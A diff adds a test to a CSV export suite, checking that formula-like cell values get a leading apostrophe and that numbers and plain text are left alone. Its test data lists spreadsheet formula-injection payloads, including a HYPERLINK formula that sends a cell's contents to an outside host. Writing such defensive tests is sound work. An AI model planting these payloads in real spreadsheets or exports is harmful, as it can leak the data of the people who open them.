@@ -70,4 +70,17 @@ describe('CSV export', () => {
       ['Copy', '2'],
     ])
   })
+
+  it('starts a cell that a spreadsheet would run as a formula with an apostrophe, and leaves numbers be', async () => {
+    const app = await richApp()
+    const input = await collectExport(app.workspace, { annotators: [ANA] })
+    const hostile = ['=HYPERLINK("https://example.org/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1']
+    const first = input.layers[0]!.annotations.slice(0, hostile.length)
+    first.forEach((a, i) => (a.note = hostile[i]!))
+    const rows = parse(runExport('csv', input)[0]!.content, { columns: true }) as Record<string, string>[]
+    expect(first.map((a) => rows.find((r) => r.id === a.id)!.note)).toEqual(hostile.map((note) => `'${note}`))
+    // numbers stay numbers, and text that is no formula is as it was
+    expect(rows.every((r) => /^\d+$/.test(r.start!) && /^\d+$/.test(r.links!))).toBe(true)
+    expect(rows.find((r) => r.id === 'ana-e4')!.text).toBe('said\r\nMark Rute 👍🏽 went')
+  })
 })
